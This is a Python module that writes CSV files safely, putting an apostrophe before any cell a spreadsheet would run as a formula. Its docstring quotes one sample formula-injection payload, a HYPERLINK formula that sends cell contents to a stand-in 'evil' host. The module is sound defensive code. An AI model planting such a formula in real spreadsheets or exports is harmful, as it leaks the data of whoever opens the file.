"""CSV that a spreadsheet never runs: cells that would start a formula are neutralised.

Excel, LibreOffice and Google Sheets treat a cell beginning with ``=``, ``+``, ``-`` or ``@`` (and, in
some versions, a tab or carriage return) as a formula, even in a CSV file: a workbook cell such as
``=HYPERLINK("http://evil/?"&A1)`` would run on the computer of whoever opens the export. Such a
cell gets a leading apostrophe, the usual "this is text" mark. Phone numbers and plain numbers
(``+62 21 3190 0110``, ``-6.1754``) hold no letters or operators a formula could use, so they are
kept as they are: consumers need them unchanged.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

#: First characters that make a spreadsheet read a cell as a formula (with their full-width forms).
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
#: Numbers and phone numbers: digits, spaces, brackets, dots, dashes, slashes; several joined by ';'.
_NUMBERISH = re.compile(r"^[+-]?[\d(][\d\s().\-/;+]*$")


def neutralise(value: str) -> str:
    """``value``, with a leading apostrophe if a spreadsheet would treat it as a formula."""
    if not value:
        return value
    stripped = value.lstrip(" ")
    if not stripped or stripped[0] not in FORMULA_STARTS:
        return value
    if _NUMBERISH.match(stripped):
        return value
    return "'" + value


def csv_bytes(header: Sequence[str] | None, rows: Iterable[Sequence[object]], *, bom: bool = False,
              extra_headers: Iterable[Sequence[str]] = ()) -> bytes:
    """UTF-8 CSV (RFC 4180 quoting, CRLF) with every cell passed through ``neutralise``.

    ``None`` becomes an empty cell; other values their ``str``. ``bom`` adds the byte-order mark Excel
    needs to open UTF-8 (Thai, Vietnamese) correctly.
    """
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    if header is not None:
        writer.writerow([neutralise(h) for h in header])
    for extra in extra_headers:
        writer.writerow([neutralise(h) for h in extra])
    for row in rows:
        writer.writerow([neutralise(cell_text(v)) for v in row])
    data = buf.getvalue().encode("utf-8")
    return (b"\xef\xbb\xbf" + data) if bom else data


def cell_text(value: object) -> str:
    """How a value is written in a cell: '' for None, yes/no for booleans, repr-exact floats."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, float):
        return repr(value)
    return str(value)
